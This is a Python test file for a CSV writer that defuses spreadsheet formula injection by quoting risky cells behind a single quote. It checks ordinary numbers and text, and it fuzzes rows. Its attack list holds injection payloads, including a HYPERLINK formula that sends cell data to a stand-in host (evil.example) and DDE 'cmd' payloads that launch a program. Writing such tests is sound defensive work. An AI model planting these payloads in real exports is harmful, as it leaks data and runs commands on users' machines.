"""CSV cells a spreadsheet would run as a formula are neutralised (a leading ``'``, quoted), in
the one writer every CSV uses; numbers stay numbers (issue 15, item 5)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.review.csv_cells import FORMULA_STARTS, csv_row, formula_like
from tests.support.fuzz import fuzz, ran


def read_back(line: str) -> list[str]:
    return next(csv.reader(io.StringIO(line, newline="")))


def written_by_csv_module(values: list[Any]) -> str:
    out = io.StringIO()
    csv.writer(out).writerow(values)
    return out.getvalue()


@pytest.mark.parametrize(
    "attack",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\uff1d1+1",  # a full-width equals sign
        "-",
        "=",
    ],
)
def test_a_formula_is_written_quoted_behind_a_single_quote(attack: str) -> None:
    line = csv_row(["ok", attack, 3])
    assert line.split(",", 1)[1].startswith("\"'")  # quoted, then the quote
    assert read_back(line) == ["ok", "'" + attack, "3"]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-5, "-5"),
        (-1.5, "-1.5"),
        (0.25, "0.25"),
        ("-5", "-5"),
        ("+3.5", "+3.5"),
        ("-1e3", "-1e3"),
        ("-.5", "-.5"),
        (None, ""),
        (True, "True"),
        ("plain title", "plain title"),
        ("a, b", '"a, b"'),
        ('say "hi"', '"say ""hi"""'),
        ("two\nlines", '"two\nlines"'),
        ("café =1", "café =1"),  # a formula only at the start of a cell
    ],
)
def test_numbers_and_ordinary_text_are_written_as_csv_writer_writes_them(
    value: Any, written: str
) -> None:
    assert csv_row(["x", value]) == f"x,{written}\r\n"
    assert csv_row(["x", value]) == written_by_csv_module(["x", value])


def test_plain_numbers_in_text_are_not_formulas_but_sums_are() -> None:
    assert not formula_like("-42")
    assert not formula_like("+0.5e-3")
    assert formula_like("-42+1")
    assert formula_like("-0x1F")
    assert formula_like("@A1")
    assert not formula_like("")
    assert not formula_like("A1=B1")


cells = st.one_of(
    st.none(),
    st.integers(),
    st.floats(allow_nan=False, allow_infinity=False),
    st.text(max_size=30),
    st.builds(lambda c, t: c + t, st.sampled_from(sorted(FORMULA_STARTS)), st.text(max_size=20)),
)


@fuzz(300)
@given(st.lists(cells, min_size=2, max_size=6))
def test_any_row_reads_back_with_only_formulas_changed(values: list[Any]) -> None:
    ran("csv cells")
    expected = [
        "" if v is None else ("'" + v if isinstance(v, str) and formula_like(v) else str(v))
        for v in values
    ]
    assert read_back(csv_row(values)) == expected
    if not any(isinstance(v, str) and formula_like(v) for v in values):
        assert csv_row(values) == written_by_csv_module(values)
